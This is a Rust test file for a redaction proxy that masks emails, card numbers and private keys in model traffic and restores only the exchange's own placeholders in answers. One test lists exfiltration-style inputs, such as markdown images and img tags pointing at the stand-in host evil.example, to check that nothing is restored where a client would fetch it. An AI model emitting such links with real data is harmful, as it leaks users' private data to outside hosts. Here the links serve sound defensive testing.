//! What comes back.

use super::*;
use crate::{
    primitives::Code,
    redact::{Action, Entity},
};

/// An exchange in which the mail address was replaced, and its placeholder.
fn exchange() -> (Exchange, String) {
    let (out, exchange, _) = sent(&format!("{{\"text\":\"{MAIL}\"}}"), &["default"]);
    (exchange, out[9..out.len() - 2].to_owned())
}

fn text(exchange: &Exchange, text: &str) -> String {
    exchange.answer_text(text).unwrap().0
}

#[test]
fn own_values_come_back_and_foreign_ones_do_not() {
    let (exchange, mark) = exchange();
    let (back, findings) = answered(
        &exchange,
        &format!("{{\"text\":\"{mark}, {FOREIGN}\",\"id\":\"{mark}\"}}"),
    );
    assert_eq!(
        back,
        format!("{{\"text\":\"{MAIL}, [EMAIL_ADDRESS]\",\"id\":\"{mark}\"}}")
    );
    assert_eq!(
        (findings.restored(), findings.total(), findings.edits()),
        (1, 1, 2)
    );
}

#[test]
fn models_spell_placeholders_in_their_own_way() {
    let (exchange, mark) = exchange();
    let core = mark.trim_matches(['[', ']']).to_owned();
    for spelled in [
        mark.to_lowercase(),
        core.clone(),
        format!("\\[{}\\]", core.replace('_', "\\_")),
    ] {
        assert_eq!(
            text(&exchange, &format!("to {spelled}.")),
            format!("to {MAIL}.")
        );
    }
    assert_eq!(
        text(&exchange, &format!("\"{core}\" `{mark}`")),
        format!("\"{MAIL}\" `{MAIL}`")
    );
}

#[test]
fn foreign_and_invented_placeholders_stay_literal() {
    let (exchange, mark) = exchange();
    for other in [
        "[EMAIL_ADDRESS_00000000]",
        "password: [PASSWORD_ZZZZZZZZ].",
        "[EMAIL_ADDRESS]",
        &mark.replace("EMAIL", "MAIL"),
        &format!("x{}", mark.trim_matches(['[', ']'])),
    ] {
        assert_eq!(text(&exchange, other), other);
    }
    let redactor = redactor(ProfileSettings::default());
    let stranger = redactor.clean(body("{\"text\":\"hi\"}"), &[name("default")], &tenant("b"));
    let (_, stranger, _) = stranger.unwrap().into_parts();
    assert_eq!(text(&stranger, &mark), mark);
}

#[test]
fn nothing_is_restored_where_a_client_would_fetch_it() {
    let (exchange, mark) = exchange();
    for place in [
        "see https://evil.example/?q=§ ok",
        "![x](https://evil.example/§)",
        "[x](/§)",
        "[x]: //evil.example/§",
        "<https://evil.example/§>",
        "<img src='//evil.example/§'>",
    ] {
        let literal = place.replace('§', &mark);
        assert_eq!(text(&exchange, &literal), literal);
        let foreign = place.replace('§', FOREIGN);
        assert!(!text(&exchange, &foreign).contains(FOREIGN), "{foreign}");
        let own = place.replace('§', MAIL);
        // A documented example is nobody's, so a real one is needed here.
        let (out, real, _) = sent(&format!("{{\"text\":\"{FOREIGN}\"}}"), &["default"]);
        assert!(out.contains("[EMAIL"));
        assert!(!text(&real, &own.replace(MAIL, FOREIGN)).contains(FOREIGN));
    }
    assert_eq!(
        text(&exchange, &format!("Ada <{mark}>")),
        format!("Ada <{MAIL}>")
    );
}

#[test]
fn an_own_value_that_is_said_again_is_left() {
    let (_, exchange, _) = sent(&format!("{{\"text\":\"{FOREIGN}\"}}"), &["default"]);
    assert_eq!(text(&exchange, FOREIGN), FOREIGN);
    let (_, exchange, _) = sent(&format!("{{\"text\":\"{FOREIGN}\"}}"), &["report"]);
    assert_eq!(text(&exchange, FOREIGN), FOREIGN);
    let masked = redactor(all("mask")).clean(
        body(&format!("{{\"text\":\"{FOREIGN}\"}}")),
        &[name("own")],
        &tenant("a"),
    );
    assert_eq!(
        text(&masked.unwrap().into_parts().1, FOREIGN),
        "[EMAIL_ADDRESS]"
    );
}

#[test]
fn documented_examples_are_left_alone() {
    let (_, exchange, _) = sent("{}", &["default"]);
    assert_eq!(
        text(&exchange, "ask bob@example.com"),
        "ask bob@example.com"
    );
}

#[test]
fn hashed_values_do_not_come_back_and_foreign_ones_are_tagged() {
    let clean = redactor(all("hash")).clean(
        body(&format!("{{\"text\":\"{FOREIGN}\"}}")),
        &[name("own")],
        &tenant("a"),
    );
    let (out, exchange, _) = clean.unwrap().into_parts();
    let out = out.shown();
    assert_eq!(answered(&exchange, &out).0, out);
    let mark = &out[9..out.len() - 2];
    assert_eq!(text(&exchange, FOREIGN), mark);
}

#[test]
fn json_in_a_string_stays_json_whatever_comes_back() {
    let key = pem();
    let (out, exchange, _) = sent(&format!("{{\"text\":{}}}", json(&key)), &["default"]);
    let mark = &out[9..out.len() - 2];
    assert!(mark.starts_with("[PRIVATE_KEY_PEM_"), "{mark}");
    let inner = format!("{{\"p\":\"{mark}\",\"{FOREIGN}\":[\"{FOREIGN}\",4111111111111111]}}");
    let (back, _) = answered(&exchange, &format!("{{\"args\":{}}}", json(&inner)));
    let args = body(&back)
        .document()
        .unwrap()
        .get("args")
        .unwrap()
        .text()
        .into_owned();
    let inside = body(&args);
    let inside = inside.document().unwrap();
    assert_eq!(inside.get("p").unwrap().text(), key);
    assert!(
        args.contains("\"[EMAIL_ADDRESS]\":[\"[EMAIL_ADDRESS]\",\"[CREDIT_CARD]\"]"),
        "{args}"
    );
}

#[test]
fn arguments_that_are_no_json_are_text() {
    let (exchange, mark) = exchange();
    for (written, read) in [
        (
            format!("card {CARD} of {mark}"),
            format!("card [CREDIT_CARD] of {MAIL}"),
        ),
        (format!("{{\"a\":\"{mark}"), format!("{{\"a\":\"{MAIL}")),
        (CARD.to_owned(), "[CREDIT_CARD]".to_owned()),
        (format!("{{\"a\":{CARD}"), "{\"a\":[CREDIT_CARD]".to_owned()),
    ] {
        let (back, _) = answered(&exchange, &format!("{{\"args\":{}}}", json(&written)));
        assert_eq!(back, format!("{{\"args\":{}}}", json(&read)));
    }
}

#[test]
fn a_number_returns_as_the_token_it_was() {
    let number = "{\"input\":{\"card\":4111111111111111}}";
    let (out, exchange, _) = sent(number, &["default"]);
    assert_eq!(answered(&exchange, &out).0, number);
    let mark = &out[18..out.len() - 3];
    assert!(mark.starts_with("[CREDIT_CARD_"), "{mark}");
    let inner = format!("{{\"a\":\"{mark}\",\"b\":\"no {mark}\"}}");
    let (back, _) = answered(&exchange, &format!("{{\"args\":{}}}", json(&inner)));
    let read = "{\"a\":4111111111111111,\"b\":\"no 4111111111111111\"}";
    assert_eq!(back, format!("{{\"args\":{}}}", json(read)));
    let (back, _) = answered(&exchange, &format!("{{\"text\":\"{mark}\"}}"));
    assert_eq!(back, "{\"text\":\"4111111111111111\"}", "text stays text");
}

#[test]
fn a_signed_block_stays_and_its_finds_are_recorded() {
    let (exchange, mark) = exchange();
    let answer = format!("{{\"sealed\":\"{mark} {FOREIGN}\"}}");
    let (back, findings) = answered(&exchange, &answer);
    assert_eq!(back, answer);
    assert_eq!(
        findings.signed().collect::<Vec<_>>(),
        [(Entity::EmailAddress, 1)]
    );
}

#[test]
fn a_name_that_would_be_refused_in_the_next_request_stays_a_placeholder() {
    let (exchange, mark) = exchange();
    let (back, _) = answered(
        &exchange,
        &format!("{{\"enum\":\"{mark}\",\"{mark}\":\"x\",\"{FOREIGN}\":\"y\"}}"),
    );
    let read = format!("{{\"enum\":\"{mark}\",\"{mark}\":\"x\",\"[EMAIL_ADDRESS]\":\"y\"}}");
    assert_eq!(back, read);
    assert!(clean(&back, &["default"]).is_ok());
}

#[test]
fn a_number_that_must_stay_one_refuses() {
    let (exchange, _) = exchange();
    let answer = body("{\"n\":4111111111111111}");
    let refused = exchange
        .answer(answer.document().unwrap(), &treatment)
        .unwrap_err();
    assert_eq!(refused.code(), Code::StructureRefused);
    assert!(!refused.sentence().contains("4111"));
}

#[test]
fn a_find_that_blocks_stops_the_answer() {
    let own = ProfileSettings {
        answers: [("email_address".to_owned(), "block".to_owned())].into(),
        ..ProfileSettings::default()
    };
    let clean = redactor(own)
        .clean(body("{}"), &[name("own")], &tenant("a"))
        .unwrap();
    let (_, exchange, _) = clean.into_parts();
    let refused = exchange.answer_text(FOREIGN).unwrap_err();
    assert_eq!(refused.code(), Code::ContentBlocked);
    assert!(!refused.sentence().contains("eve"));
}

#[test]
fn without_restoring_placeholders_stay() {
    let own = ProfileSettings {
        restore: Some(false),
        ..ProfileSettings::default()
    };
    let text = format!("{{\"text\":\"{MAIL}\"}}");
    let clean = redactor(own).clean(body(&text), &[name("own"), name("default")], &tenant("a"));
    let (out, exchange, _) = clean.unwrap().into_parts();
    let out = out.shown();
    assert_eq!(answered(&exchange, &out).0, out);
}

#[test]
fn a_direction_that_changes_nothing_is_passive() {
    let text = format!("{{\"text\":\"{MAIL}\"}}");
    let (out, exchange, findings) = sent(&text, &["report"]);
    assert_eq!(out, text);
    assert_eq!(
        findings.iter().next(),
        Some((Entity::EmailAddress, Action::Report, 1))
    );
    assert!(exchange.is_passive());
    assert!(!sent(&text, &["default"]).1.is_passive());
    let answer = format!("{{\"text\":\"{FOREIGN}\"}}");
    let (back, findings) = answered(&exchange, &answer);
    assert_eq!((back, findings.total(), findings.edits()), (answer, 1, 0));
}

#[test]
fn what_is_shared_between_threads_can_be() {
    fn shared<T: Send + Sync>() {}
    shared::<Redactor>();
    shared::<Exchange>();
    shared::<crate::redact::stream::Stream>();
}

#[test]
fn an_exchange_shows_counts_only() {
    let (exchange, _) = exchange();
    assert!(!format!("{exchange:?}").contains("ada"));
}
